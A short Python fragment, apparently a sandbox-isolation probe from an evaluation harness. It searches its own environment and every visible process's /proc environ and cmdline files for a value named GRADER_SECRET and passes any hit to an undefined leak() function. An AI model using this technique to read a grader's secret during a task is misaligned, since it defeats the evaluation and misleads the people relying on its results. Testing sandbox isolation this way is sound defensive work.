# Read environment variables: its own, pid 1's and every visible process's.
import os
if "GRADER_SECRET" in os.environ:
    leak("environ", os.environ["GRADER_SECRET"])
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        for _what in ("environ", "cmdline"):
            try:
                _text = open(f"/proc/{_pid}/{_what}", "rb").read().decode(errors="replace")
            except OSError:
                continue
            if "GRADER_SECRET" in _text:
                leak(f"/proc/{_pid}/{_what}", _text)
done()
